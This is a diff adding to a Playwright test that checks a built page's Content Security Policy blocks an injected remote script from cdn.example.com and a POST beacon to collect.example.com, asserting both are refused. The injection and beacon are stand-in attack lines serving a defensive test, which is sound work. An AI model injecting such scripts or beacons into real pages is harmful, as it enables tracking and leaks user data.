@@ -157,4 +157,24 @@ test('the built page carries a CSP that allows only its own origin', async ({ pa
   await expect.poll(() => violations.some((v) => v.startsWith('script-src'))).toBe(true);
   expect(await page.evaluate('window.inlineRan')).toBeUndefined();
   expect(violations.filter((v) => !v.startsWith('script-src'))).toEqual([]);
+
+  // An injected remote script and a beacon to another origin are blocked before any request.
+  const offOrigin: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).hostname.endsWith('example.com')) offOrigin.push(request.url());
+  });
+  await page.evaluate(`(() => {
+    const script = document.createElement('script');
+    script.src = 'https://cdn.example.com/tracker.js';
+    document.head.append(script);
+  })()`);
+  await expect
+    .poll(() => violations.includes('script-src-elem https://cdn.example.com/tracker.js'))
+    .toBe(true);
+  const beacon = await page.evaluate(
+    `fetch('https://collect.example.com/p', { method: 'POST', body: 'prompt' }).then(() => 'sent', (e) => e.name)`,
+  );
+  expect(beacon).toBe('TypeError');
+  await expect.poll(() => violations.includes('connect-src https://collect.example.com/p')).toBe(true);
+  expect(offOrigin).toEqual([]);
 });
